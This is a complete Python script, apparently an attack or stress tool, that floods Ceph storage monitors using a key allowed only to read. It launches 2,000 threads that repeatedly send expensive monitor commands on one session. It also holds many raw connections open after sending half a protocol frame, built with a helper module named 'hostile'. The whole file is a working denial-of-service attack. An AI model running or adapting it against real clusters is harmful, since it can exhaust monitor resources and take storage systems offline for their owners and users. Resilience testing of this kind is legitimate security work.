#!/usr/bin/env python3
"""Floods the monitors by a key that may only read. usage: monitor_flood.py KEYRING MONITOR HALVES HOST:PORT...

Sends 2,000 commands with long answers on one session before the first is answered, and keeps HALVES connections open that
sent half a frame, to the HOST:PORT in turn. Prints "flooding" once all is sent, then goes on until it is ended.
"""
import os
import socket
import sys
import threading
import time

import rados

from hostile import BANNER, HELLO, preamble

KEYRING, MONITOR, HALVES, TARGETS = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
COMMANDS = ['{"prefix":"log last","num":10000,"level":"debug","channel":"*"}', '{"prefix":"osd utilization"}',
            '{"prefix":"osd dump","format":"json"}', '{"prefix":"log last","num":10000,"level":"debug","channel":"*"}']

halves = []
for n in range(HALVES):
    host, port = TARGETS[n % len(TARGETS)].rsplit(':', 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    s.sendall(BANNER + HELLO + preamble(2, [400]) + b'x' * 200)
    halves.append(s)

client = rados.Rados(name='client.weak', conffile=os.environ['CEPH_CONF'], conf={'keyring': KEYRING, 'mon_host': MONITOR})
client.connect(timeout=30)
threading.stack_size(256 << 10)
begun = threading.Semaphore(0)


def ask(n):
    begun.release()
    while True:
        # The answer is dropped; the library has a time limit of its own.
        try:
            client.mon_command(COMMANDS[n % len(COMMANDS)], b'')
        except rados.Error:
            time.sleep(0.1)


for n in range(2000):
    threading.Thread(target=ask, args=(n,), daemon=True).start()
for n in range(2000):
    begun.acquire()
print('flooding', flush=True)
time.sleep(600)
